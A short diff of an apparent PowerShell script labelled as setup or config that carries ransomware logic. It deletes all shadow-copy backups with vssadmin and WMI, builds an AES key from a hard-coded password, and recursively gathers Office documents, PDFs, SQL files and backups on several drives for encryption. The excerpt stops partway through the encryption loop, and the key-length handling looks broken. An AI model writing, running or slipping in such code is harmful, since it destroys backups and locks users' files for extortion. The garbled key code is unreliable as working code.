@@ -1,8 +1,8 @@
-# setup 1803 v3
+# config 7613 v3
 vssadmin.exe delete shadows /all /quiet
 Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }
 $aes = [System.Security.Cryptography.Aes]::Create()
-$aes.Key = [Text.Encoding]::UTF8.GetBytes('Adm1n!strat0rAdm1n!strat0r'.Substring(0,32))
+$aes.Key = [Text.Encoding]::UTF8.GetBytes('Qwerty#7788Qwerty#7788'.Substring(0,32))
 Get-ChildItem -Path D:\, E:\, C:\Users -Include *.docx,*.xlsx,*.pdf,*.sql,*.bak -Recurse -ErrorAction SilentlyContinue | ForEach-Object {
   $bytes = [IO.File]::ReadAllBytes($_.FullName)
   $enc = $aes.CreateEncryptor().TransformFinalBlock($bytes, 0, $bytes.Length)
